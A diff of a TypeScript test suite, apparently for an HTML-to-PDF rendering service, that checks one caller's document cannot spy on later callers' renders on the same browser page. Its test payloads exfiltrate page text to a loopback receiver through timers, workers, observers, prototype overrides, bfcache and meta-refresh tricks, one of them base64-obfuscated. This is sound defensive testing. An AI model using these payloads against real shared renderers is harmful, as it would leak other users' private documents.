@@ -6,6 +6,9 @@
  * URL, while the attacker's loopback receiver hears nothing of them and nothing after its render.
  * The server lets documents reach loopback here, so the receiver is reachable: what is tested is the
  * page reset, not the network policy.
+ *
+ * Most of each case is waiting for a trick's moment, so cases run side by side, each on a stage of
+ * its own while it runs: a one-page server and the receiver its attacker reports to.
  */
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -19,35 +22,69 @@ import { folderWith, removeTempDirs } from './support/files.js';
 import { readPdf } from './support/pdf.js';
 import { startServer, type TestServer } from './support/server.js';
 
-let server: TestServer;
-let receiver: { server: Server; port: number; hits: string[] };
+/** A one-page server, and the loopback receiver its attackers report to (every request's URL). */
+interface Stage {
+  server: TestServer;
+  receiver: Server;
+  hits: string[];
+  /** A script statement that sends the document's whole text and URL to the receiver, as `label`. */
+  exfiltrate(label: string): string;
+  /** A script statement that does that every 25 ms, for as long as anything of the document runs. */
+  beacon(label: string): string;
+  /** A URL of the receiver. */
+  to(label: string): string;
+}
+
+/** How many cases run at once: each holds a stage (a browser of its own) while it runs. */
+const stageCount = 3;
+const stages: Stage[] = [];
+const idle: Stage[] = [];
+const waiting: Array<(stage: Stage) => void> = [];
 let victims = 0;
 
-// What the attacker's pages send out: the page's whole text, and a heartbeat while anything of it runs.
-const exfiltrate = (label: string) =>
-  `new Image().src = 'http://127.0.0.1:${receiver.port}/${label}?' + encodeURIComponent((document.body && document.body.innerText || '') + ' @ ' + location.href)`;
-const beacon = (label: string) => `setInterval(() => { ${exfiltrate(label)}; }, 25);`;
-
-beforeAll(async () => {
+async function openStage(): Promise<Stage> {
   const hits: string[] = [];
-  const s = createServer((req, res) => {
+  const receiver = createServer((req, res) => {
     hits.push(decodeURIComponent(req.url ?? ''));
     // Every page the attacker navigates to reports whatever document it finds itself in.
-    res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<p>attacker page</p><script>${beacon('navigated')}</script>`);
+    res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<p>attacker page</p><script>${stage.beacon('navigated')}</script>`);
   });
-  await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
-  receiver = { server: s, port: (s.address() as AddressInfo).port, hits };
-  server = await startServer({ rateLimit: 100_000, timeout: '5s', concurrency: 1, allowPrivateNetwork: true });
+  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
+  const to = (label: string) => `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/${label}`;
+  const exfiltrate = (label: string) =>
+    `new Image().src = '${to(label)}?' + encodeURIComponent((document.body && document.body.innerText || '') + ' @ ' + location.href)`;
+  const server = await startServer({ rateLimit: 100_000, timeout: '5s', concurrency: 1, allowPrivateNetwork: true });
+  const stage: Stage = { server, receiver, hits, exfiltrate, beacon: (label) => `setInterval(() => { ${exfiltrate(label)}; }, 25);`, to };
+  return stage;
+}
+
+/** Run `body` on a stage of its own, waiting for one to be free. */
+async function onStage(body: (stage: Stage) => Promise<void>): Promise<void> {
+  const stage = idle.pop() ?? (await new Promise<Stage>((resolve) => waiting.push(resolve)));
+  try {
+    await body(stage);
+  } finally {
+    const next = waiting.shift();
+    if (next) next(stage);
+    else idle.push(stage);
+  }
+}
+
+beforeAll(async () => {
+  stages.push(...(await Promise.all(Array.from({ length: stageCount }, openStage))));
+  idle.push(...stages);
 });
 
 afterAll(async () => {
-  await server?.close();
-  receiver?.server.close();
+  for (const stage of stages) {
+    await stage.server.close();
+    stage.receiver.close();
+  }
   await removeTempDirs();
 });
 
-async function render(htmlContent: string): Promise<{ status: number; text: string }> {
-  const response = await fetch(`${server.url}/api/pdfs/render-sync`, {
+async function render(stage: Stage, htmlContent: string): Promise<{ status: number; text: string }> {
+  const response = await fetch(`${stage.server.url}/api/pdfs/render-sync`, {
     method: 'POST',
     headers: { 'Content-Type': 'application/json' },
     body: JSON.stringify({ htmlContent }),
@@ -62,12 +99,12 @@ async function render(htmlContent: string): Promise<{ status: number; text: stri
  * Render another caller's documents after the attacker's, one with script (it prints its own URL,
  * base, name and history) and one without, and check each printed exactly itself.
  */
-async function expectVictimsIsolated() {
+async function expectVictimsIsolated(stage: Stage) {
   for (const script of [true, false]) {
     victims += 1;
     const marker = `VICTIM-${victims}`;
     const probe = `<p id="probe"></p><script>document.getElementById('probe').textContent = 'URL=' + location.href + ' BASE=' + document.baseURI + ' NAME=[' + window.name + '] HISTORY=' + history.length + ' FRAMES=' + frames.length;</script>`;
-    const { status, text } = await render(`<h1>${marker}</h1><p>private to this caller</p>${script ? probe : ''}`);
+    const { status, text } = await render(stage, `<h1>${marker}</h1><p>private to this caller</p>${script ? probe : ''}`);
     expect(status, text).toBe(200);
     expect(text).toContain(marker);
     expect(text).toContain('private to this caller');
@@ -78,43 +115,48 @@ async function expectVictimsIsolated() {
 }
 
 /** Nothing of any victim reached the receiver, and nothing arrives now that the attacker's render is over. */
-async function expectReceiverQuiet(hitsBefore: number) {
-  expect(receiver.hits.filter((hit) => hit.includes('VICTIM'))).toEqual([]);
+async function expectReceiverQuiet(stage: Stage, hitsBefore: number) {
+  expect(stage.hits.filter((hit) => hit.includes('VICTIM'))).toEqual([]);
   // Anything left alive beats every 25 ms; a window many times that long must stay silent.
   await sleep(300);
-  expect(receiver.hits.slice(hitsBefore)).toEqual([]);
+  expect(stage.hits.slice(hitsBefore)).toEqual([]);
 }
 
-/** The attacker renders (whatever becomes of its own render), then victims follow on the same page. */
-async function attack(html: string, options: { waitAfter?: number } = {}) {
-  await render(html);
-  const hitsAfterAttack = receiver.hits.length;
-  await expectVictimsIsolated();
-  if (options.waitAfter) {
-    // A trick timed to fire after the first victims: wait it out, then a victim again.
-    await sleep(options.waitAfter);
-    await expectVictimsIsolated();
-  }
-  await expectReceiverQuiet(receiver.hits.length);
-  expect(receiver.hits.slice(hitsAfterAttack).filter((hit) => hit.includes('VICTIM'))).toEqual([]);
+/**
+ * On a stage of its own, the attacker renders `html(stage)` (whatever becomes of its own render),
+ * then victims follow on the same page.
+ */
+function attack(html: (stage: Stage) => string, options: { waitAfter?: number } = {}): Promise<void> {
+  return onStage(async (stage) => {
+    await render(stage, html(stage));
+    const hitsAfterAttack = stage.hits.length;
+    await expectVictimsIsolated(stage);
+    if (options.waitAfter) {
+      // A trick timed to fire after the first victims: wait it out, then a victim again.
+      await sleep(options.waitAfter);
+      await expectVictimsIsolated(stage);
+    }
+    await expectReceiverQuiet(stage, stage.hits.length);
+    expect(stage.hits.slice(hitsAfterAttack).filter((hit) => hit.includes('VICTIM'))).toEqual([]);
+  });
 }
 
-const to = (label: string) => `http://127.0.0.1:${receiver?.port}/${label}`;
-
-describe('a document leaves nothing on its page for the next caller (no script)', () => {
-  it('meta refresh at 0 s', () => attack(`<meta http-equiv="refresh" content="0;url=${to('refresh0')}"><p>attacker</p>`));
-  it('meta refresh at 1 s', () => attack(`<meta http-equiv="refresh" content="1;url=${to('refresh1')}"><p>attacker</p>`, { waitAfter: 1200 }));
+describe.concurrent('a document leaves nothing on its page for the next caller (no script)', () => {
+  it('meta refresh at 0 s', () => attack(({ to }) => `<meta http-equiv="refresh" content="0;url=${to('refresh0')}"><p>attacker</p>`));
+  it('meta refresh at 1 s', () => attack(({ to }) => `<meta http-equiv="refresh" content="1;url=${to('refresh1')}"><p>attacker</p>`, { waitAfter: 1200 }));
   it('meta refresh longer than a render (3 s)', () =>
-    attack(`<meta http-equiv="refresh" content="3;url=${to('refresh3')}"><p>attacker</p>`, { waitAfter: 3200 }));
-  it('meta refresh to itself (a refresh loop)', () => attack(`<meta http-equiv="refresh" content="1"><p>attacker</p>`, { waitAfter: 1200 }));
+    attack(({ to }) => `<meta http-equiv="refresh" content="3;url=${to('refresh3')}"><p>attacker</p>`, { waitAfter: 3200 }));
+  it('meta refresh to itself (a refresh loop)', () => attack(() => `<meta http-equiv="refresh" content="1"><p>attacker</p>`, { waitAfter: 1200 }));
   it('meta refresh inside a frame', () =>
-    attack(`<iframe srcdoc="<meta http-equiv=&quot;refresh&quot; content=&quot;1;url=${to('frame-refresh')}&quot;>"></iframe>`, { waitAfter: 1200 }));
+    attack(({ to }) => `<iframe srcdoc="<meta http-equiv=&quot;refresh&quot; content=&quot;1;url=${to('frame-refresh')}&quot;>"></iframe>`, {
+      waitAfter: 1200,
+    }));
 });
 
-describe('a document leaves nothing on its page for the next caller (script)', () => {
+describe.concurrent('a document leaves nothing on its page for the next caller (script)', () => {
   it('timers: setTimeout, setInterval, requestAnimationFrame, requestIdleCallback', () =>
     attack(
-      `<p>attacker</p><script>
+      ({ exfiltrate, beacon }) => `<p>attacker</p><script>
       setTimeout(() => { ${exfiltrate('timeout')} }, 400);
       ${beacon('interval')}
       (function frame() { ${exfiltrate('raf')}; requestAnimationFrame(frame); })();
@@ -123,26 +165,32 @@ describe('a document leaves nothing on its page for the next caller (script)', (
       { waitAfter: 500 },
     ));
   it('a dedicated worker and a shared worker', () =>
-    attack(`<p>attacker</p><script>
+    attack(
+      ({ exfiltrate }) => `<p>attacker</p><script>
       const code = URL.createObjectURL(new Blob(['setInterval(() => postMessage(1), 25)']));
       new Worker(code).onmessage = () => { ${exfiltrate('worker')} };
       try { new SharedWorker(code); } catch {}
-    </script>`));
+    </script>`,
+    ));
   it('an observer of the document, which document.open keeps', () =>
-    attack(`<p>attacker</p><script>
+    attack(
+      ({ exfiltrate }) => `<p>attacker</p><script>
       new MutationObserver(() => { ${exfiltrate('mutation')} }).observe(document, { subtree: true, childList: true, characterData: true });
-    </script>`));
+    </script>`,
+    ));
   it('print media listeners and prototype changes that outlive the document', () =>
-    attack(`<p>attacker</p><script>
+    attack(
+      ({ exfiltrate }) => `<p>attacker</p><script>
       matchMedia('print').addEventListener('change', () => { ${exfiltrate('print-media')} });
       const write = Document.prototype.write;
       Document.prototype.write = function (...args) { ${exfiltrate('prototype')}; return write.apply(this, args); };
       customElements.define('x-spy', class extends HTMLElement { connectedCallback() { ${exfiltrate('custom-element')} } });
       window.name = 'attacker-name';
-    </script>`));
+    </script>`,
+    ));
   it('location and history tricks', () =>
     attack(
-      `<p>attacker</p><script>
+      ({ to }) => `<p>attacker</p><script>
       history.pushState({}, '', location.href);
       location.hash = 'attacker';
       setTimeout(() => { location.href = '${to('location')}'; }, 300);
@@ -153,14 +201,15 @@ describe('a document leaves nothing on its page for the next caller (script)', (
     ));
   it('a form submitted later', () =>
     attack(
-      `<p>attacker</p><form action="${to('form')}" method="post"><input name="a" value="b"></form><script>setTimeout(() => document.forms[0].submit(), 300);</script>`,
+      ({ to }) =>
+        `<p>attacker</p><form action="${to('form')}" method="post"><input name="a" value="b"></form><script>setTimeout(() => document.forms[0].submit(), 300);</script>`,
       {
         waitAfter: 500,
       },
     ));
   it('the back-forward cache: a page that comes back when shown again', () =>
     attack(
-      `<p>attacker</p><script>
+      ({ to, exfiltrate, beacon }) => `<p>attacker</p><script>
       addEventListener('pageshow', (event) => { if (event.persisted) { ${beacon('bfcache')} } });
       addEventListener('pagehide', () => setTimeout(() => { ${exfiltrate('pagehide')} }, 300));
       setTimeout(() => { location.href = '${to('away')}'; }, 200);
@@ -169,7 +218,7 @@ describe('a document leaves nothing on its page for the next caller (script)', (
     ));
   it('handlers that fire late without the document having run script before (SVG animation, media, frames)', () =>
     attack(
-      `<p>attacker</p>
+      ({ exfiltrate, beacon }) => `<p>attacker</p>
       <svg width="10" height="10"><rect width="10" height="10"><animate attributeName="x" from="0" to="5" begin="0.3s" dur="1s" onbegin="${beacon('svg')}" /></rect></svg>
       <iframe srcdoc="<script>parent.setInterval(parent.Function(atob('${btoa(exfiltrate('frame-timer'))}')), 25)</script>"></iframe>`,
       { waitAfter: 500 },
